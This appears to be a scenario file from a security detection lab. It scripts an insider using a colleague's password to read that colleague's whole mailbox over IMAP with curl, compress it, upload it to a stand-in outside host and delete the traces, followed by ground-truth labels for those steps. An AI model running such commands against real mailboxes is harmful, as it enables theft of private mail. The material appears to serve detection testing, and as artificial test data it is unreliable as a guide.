title="A colleague's box read over IMAP on the host itself, and uploaded"
what="intern has buyer's password. In a login of intern, curl asks imap://127.0.0.1 for buyer's inbox message by message in a loop into a file in /dev/shm, bzip2 packs it and curl uploads it to files.example.net. Only Dovecot touches the store. intern reads own mail the same way with mutt now and then."
user=intern daemons="cron sshd dovecot"
setup() { dovecot_config; }
act() {
  letters buyer 8; letters intern 2; small_talk 3
  imap_read buyer 198.51.100.50
  ssh_as intern <<'L'
ls Maildir/new | wc -l
for i in $(seq 1 8); do curl -s -u buyer:lab-only "imap://127.0.0.1/INBOX;MAILINDEX=$i" >> /dev/shm/sh-np-1; done
bzip2 -9 /dev/shm/sh-np-1
curl -s -T /dev/shm/sh-np-1.bz2 http://files.example.net/u/1
rm -f /dev/shm/sh-np-1.bz2
L
  small_talk 1
}
truth() {
  exec_step ask 'curl -s -u buyer:lab-only imap://127.0.0.1' 'the box of another over IMAP'
  net_step imap 'curl 127.0.0.1:143' 'on the host itself'
  net_step out 'curl 203.0.113.80:80' 'uploaded'
}
